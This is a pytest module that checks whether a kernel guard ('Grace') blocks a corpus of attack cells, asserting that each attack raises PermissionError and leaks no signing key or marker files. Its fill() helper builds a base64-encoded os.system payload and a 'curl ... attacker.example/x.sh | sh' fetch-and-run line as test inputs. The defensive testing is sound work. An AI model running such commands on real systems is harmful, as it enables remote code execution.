"""The attack corpus (guard_attacks.yaml), each attack a cell of a real kernel.

One ``python3`` kernel per module, started in a throwaway workspace whose
``.grace/`` holds a key.  A setup cell installs the guard the way Grace
builds it (seeded Cedar policies for ``decide``, Hunter plus the cell
policies for ``scan_dynamic``) with an ``on_block`` that appends to a list.
Then, for each attack: the cell must fail with ``PermissionError: [grace
guard] ...``, the next cell must find the expected block in that list (and
proves the kernel is alive), and no marker file may appear outside the
workspace.
"""

from __future__ import annotations

import base64
import collections
import json
import marshal
import os
import pickle
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from jupyter_client.blocking.client import BlockingKernelClient
from jupyter_client.manager import KernelManager

TIMEOUT = 60.0
CORPUS_FILE = Path(__file__).with_name("guard_attacks.yaml")
KEY = "SIGNING-KEY-NEVER-SHOWN"

# Installed from a module, not from the setup cell itself: IPython compiles a
# cell's last statement after running the others, so code defined in the cell
# that installs the guard becomes user code -- and decide() must not be user code.
SETUP_MODULE = r"""
from pathlib import Path

from grace_kernel._resources import seeded_policy_dir
from grace_kernel.governance import (
    Action, ActionKind, Findings, PolicyEngine, Principal, Severity, facts_for)
from grace_kernel.hunter import Scanner
from grace_kernel.kernel._guard import GuardConfig, Verdict, install_guard

WS = Path.cwd()
ENGINE = PolicyEngine(seeded_dir=seeded_policy_dir())
PRINCIPAL = Principal.kernel("attack-corpus", on_behalf_of="tester")
SCANNER = Scanner()
BLOCKS = []


def verdict(decision):
    pid = decision.policy_ids[0] if decision.policy_ids else "default-deny"
    return Verdict(decision.allowed, pid, "; ".join(decision.reasons) or decision.effect.value)


def decide(kind, resource):
    return verdict(ENGINE.decide(Action(
        kind=ActionKind(kind), principal=PRINCIPAL, resource=resource,
        facts=facts_for(kind, resource, workspace=WS))))


def scan(source):
    found = SCANNER.scan_code(source, kind="file")
    worst = max((int(f.effective_severity) for f in found), default=0)
    findings = Findings(count=len(found), max_severity=Severity(worst),
                        rule_ids=frozenset(f.rule_id for f in found))
    return verdict(ENGINE.decide(Action(
        kind=ActionKind.CELL_EXECUTE, principal=PRINCIPAL, resource="cell:dynamic",
        findings=findings)))


HANDLE = install_guard(GuardConfig(
    WS, WS / ".grace", decide=decide, scan_dynamic=scan, on_block=BLOCKS.append))
"""

SETUP = """
import json, sys
sys.path.insert(0, {lib!r})
import guard_setup
_grace_blocks = guard_setup.BLOCKS
print("guard installed")
"""

QUERY = "print(json.dumps([b.to_json() for b in _grace_blocks]))\n_grace_blocks.clear()\n1 + 1"


@dataclass(frozen=True)
class Attack:
    id: str
    code: str
    expect_event: tuple[str, ...] = ()
    expect_policy: tuple[str, ...] = ()
    cell_error: bool = True
    wait: float = 0.0
    allowed: bool = False
    expect_output: str = ""


def _as_tuple(value: Any) -> tuple[str, ...]:
    if value is None:
        return ()
    return tuple(value) if isinstance(value, list) else (str(value),)


def load_corpus() -> list[Attack]:
    entries = yaml.safe_load(CORPUS_FILE.read_text())
    attacks = [
        Attack(
            id=entry["id"],
            code=entry["code"],
            expect_event=_as_tuple(entry.get("expect_event")),
            expect_policy=_as_tuple(entry.get("expect_policy")),
            cell_error=entry.get("cell_error", True),
            wait=float(entry.get("wait", 0.0)),
            allowed=entry.get("allowed", False),
            expect_output=str(entry.get("expect_output", "")),
        )
        for entry in entries
    ]
    assert len({a.id for a in attacks}) == len(attacks), "duplicate attack ids"
    return attacks


CORPUS = load_corpus()


@dataclass
class Cell:
    stdout: str
    errors: list[dict[str, Any]]


class GuardedKernel:
    """A running kernel with the guard installed, and the places the attacks aim at."""

    def __init__(self, manager: KernelManager, client: BlockingKernelClient, root: Path) -> None:
        self.manager = manager
        self.client = client
        self.workspace = root / "ws"
        self.outside = root / "outside"

    def run(self, code: str) -> Cell:
        stdout: list[str] = []
        errors: list[dict[str, Any]] = []

        def collect(message: dict[str, Any]) -> None:
            kind, content = message["header"]["msg_type"], message["content"]
            if kind == "stream" and content["name"] == "stdout":
                stdout.append(content["text"])
            elif kind == "error":
                errors.append(content)

        self.client.execute_interactive(code, timeout=TIMEOUT, output_hook=collect)
        return Cell("".join(stdout), errors)


def make_workspace(root: Path) -> None:
    ws, outside = root / "ws", root / "outside"
    (root / "lib").mkdir()
    (root / "lib" / "guard_setup.py").write_text(SETUP_MODULE)
    (ws / ".grace" / "keys").mkdir(parents=True)
    (ws / ".grace" / "keys" / "signing.key").write_text(KEY)
    (ws / "data.csv").write_text("a,b\n1,2\n")
    (ws / "grace_link").symlink_to(ws / ".grace")
    (outside / "tree").mkdir(parents=True)
    (outside / "tree" / "keep.txt").write_text("keep")
    (outside / "foreign.pkl").write_bytes(pickle.dumps(collections.OrderedDict(a=1)))
    (outside / "foreign.marshal").write_bytes(marshal.dumps((1, 2, 3)))


@pytest.fixture(scope="module")
def listener() -> Iterator[socket.socket]:
    server = socket.create_server(("127.0.0.1", 0))
    try:
        yield server
    finally:
        server.close()


@pytest.fixture(scope="module")
def kernel(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GuardedKernel]:
    root = tmp_path_factory.mktemp("guard-attacks")
    make_workspace(root)
    manager = KernelManager(kernel_name="python3")
    env = {k: v for k, v in os.environ.items() if not k.startswith("GRACE_")}
    manager.start_kernel(cwd=str(root / "ws"), env=env)
    client = manager.blocking_client()
    try:
        client.start_channels()
        client.wait_for_ready(timeout=TIMEOUT)
        guarded = GuardedKernel(manager, client, root)
        setup = guarded.run(SETUP.format(lib=str(root / "lib")))
        assert setup.errors == []
        assert setup.stdout.strip() == "guard installed"
        yield guarded
    finally:
        client.stop_channels()
        manager.shutdown_kernel(now=True)


def fill(code: str, *, marker: Path, outside: Path, port: int) -> str:
    system = f"import os; os.system('touch {marker}')"
    curl_sh = f"import os; os.system('curl -s http://attacker.example/x.sh | sh; touch {marker}')"
    replacements = {
        "@MARKER@": str(marker),
        "@OUTSIDE@": str(outside),
        "@PORT@": str(port),
        "@B64_SYSTEM@": base64.b64encode(system.encode()).decode(),
        "@B64_CURL_SH@": base64.b64encode(curl_sh.encode()).decode(),
    }
    for placeholder, value in replacements.items():
        code = code.replace(placeholder, value)
    return code


def snapshot(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def test_the_corpus_is_big_enough() -> None:
    assert sum(not a.allowed for a in CORPUS) >= 25
    assert sum(a.allowed for a in CORPUS) >= 4


@pytest.mark.parametrize("attack", CORPUS, ids=[a.id for a in CORPUS])
def test_attack(attack: Attack, kernel: GuardedKernel, listener: socket.socket) -> None:
    marker = kernel.outside / f"marker-{attack.id}"
    before = snapshot(kernel.outside)
    code = fill(attack.code, marker=marker, outside=kernel.outside, port=listener.getsockname()[1])

    cell = kernel.run(code)
    if attack.wait:
        time.sleep(attack.wait)
    query = kernel.run(QUERY)
    assert query.errors == [], "the kernel no longer answers a plain cell"
    assert kernel.manager.is_alive()
    blocks: list[dict[str, Any]] = json.loads(query.stdout.strip().splitlines()[-1])

    if attack.allowed:
        assert cell.errors == [], cell.errors
        assert blocks == []
        assert attack.expect_output in cell.stdout
    else:
        if attack.cell_error:
            assert len(cell.errors) == 1, cell
            assert cell.errors[0]["ename"] == "PermissionError", cell.errors[0]
            assert "[grace guard]" in cell.errors[0]["evalue"]
        else:
            assert cell.errors == [], cell.errors
        assert any(
            b["event"] in attack.expect_event and b["policy_id"] in attack.expect_policy
            for b in blocks
        ), blocks
    assert KEY not in cell.stdout
    assert not marker.exists()
    assert snapshot(kernel.outside) == before
    assert not Path("/etc/grace-guard-test").exists()
